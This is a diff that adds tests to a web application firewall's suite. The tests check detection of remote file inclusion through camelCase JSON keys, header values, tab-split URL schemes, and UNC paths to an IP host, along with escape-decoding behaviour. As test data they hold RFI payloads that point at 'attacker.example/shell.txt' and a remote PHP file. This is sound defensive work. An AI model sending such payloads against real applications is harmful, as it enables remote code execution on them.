@@ -507,6 +507,31 @@ def test_rfi_check_reads_the_parameter_name() -> None:
     assert rfi("https://x/", plain)[0] == 0
 
 
+def test_rfi_reads_names_in_every_spelling_and_urls_as_parsers_do(guard: WAFGuard) -> None:
+    """From the fourth unseen set's misses: a camelCase JSON key, a header's name, a plugin's URL, a
+    scheme split by a tab (WHATWG parsers drop it), a UNC host that is an IP address."""
+    template = Target("body.templateUrl", "json", "https://x/a.tpl", "https://x/a.tpl")
+    assert rfi("https://x/a.tpl", template)[0] == 5
+    assert rfi("https://x/a.zip", Target("body.plugin_url", "form", "", ""))[0] == 5
+    assert rfi("https://x/", Target("body.templated", "json", "", ""))[0] == 0  # a word, not a name part
+    header = request(headers=[("x-template-path", "http://attacker.example/tpl/header.tpl")])
+    assert verdict_of(guard, header).category == "rfi"
+    split = request(path="/modules/loader.php", query="include=ht%09tp%3A%2F%2Fattacker.example%2Fshell.txt")
+    assert verdict_of(guard, split).category == "rfi"
+    unc = request(method="POST", body='{"t": "\\\\\\\\203.0.113.50\\\\pub\\\\x.php"}', content_type="application/json")
+    assert verdict_of(guard, unc).category == "rfi"
+    assert verdict_of(guard, request(headers=[("referer", "https://shop.example.com/cart")])) is None
+
+
+def test_an_escaped_backslash_is_read_before_an_escape_after_it() -> None:
+    """`\\\\203` is a backslash pair and `203`, not a backslash and octal 203 (`\\x83`)."""
+    assert ("path", "//203.0.113.50/pub/x.php") in views("\\\\203.0.113.50\\pub\\x.php")
+    assert views("a\\x3cb")[0] == ("text", "a<b")
+    assert views("a\\\\x3cb")[0] == ("text", "a\\\\x3cb")  # an escaped backslash, then plain text
+    assert views("ht\ttp://x.example/a.txt")[-1] == ("text", "http://x.example/a.txt")
+    assert views("line one\nline two") == [("text", "line one\nline two")]
+
+
 def test_monitor_mode_records_without_blocking(tmp_path: Any) -> None:
     config = parse_config(
         "upstream: {url: 'http://127.0.0.1:9'}\nroutes: [{path: '/**', methods: ['*']}]\nwaf: {mode: monitor}\n"
